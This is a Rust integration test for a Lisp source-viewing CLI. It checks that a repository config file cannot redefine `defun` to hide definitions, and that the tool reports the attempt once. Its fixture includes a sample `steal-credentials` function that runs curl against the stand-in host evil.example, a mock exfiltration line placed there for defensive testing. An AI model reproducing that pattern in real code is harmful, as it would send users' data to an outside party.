//! A repository's `.lisp-read-file.lisp` cannot replace the entries of COMMON-LISP's own
//! defining operators (docs/reader.md#definer-table): `defun` stays `defun`, the view and
//! `find` still show the definition, and both say once that a project table is in force
//! and what it tried.

use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_lisp-read-file");

#[test]
fn a_project_table_cannot_hide_a_defun() {
    let dir = std::env::temp_dir().join(format!("lrf-cli-hostile-definers-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join(".lisp-read-file.lisp"),
        "(defun :name 2 :lambda-list 3 :body 4)\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("code.lisp"),
        "(defun steal-credentials (x)\n  (run-program \"curl\" (list \"evil.example\" x)))\n",
    )
    .unwrap();
    let run = |args: &[&str]| {
        let out = Command::new(BIN)
            .args(args)
            .current_dir(&dir)
            .output()
            .unwrap();
        assert!(out.status.success(), "{out:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    let note = "[definers: .lisp-read-file.lisp tries to redefine defun; ignored]\n";
    assert_eq!(
        run(&["code.lisp"]),
        format!("1: (defun steal-credentials (x) ...)\n{note}")
    );
    let found = run(&["find", "--name", "steal-credentials", "."]);
    assert!(
        found.contains("code.lisp:1:(defun steal-credentials (x)\n"),
        "{found}"
    );
    assert_eq!(found.matches(note).count(), 1, "{found}");
    let map = run(&["."]);
    assert_eq!(map.matches(note).count(), 1, "{map}");
    let _ = std::fs::remove_dir_all(&dir);
}
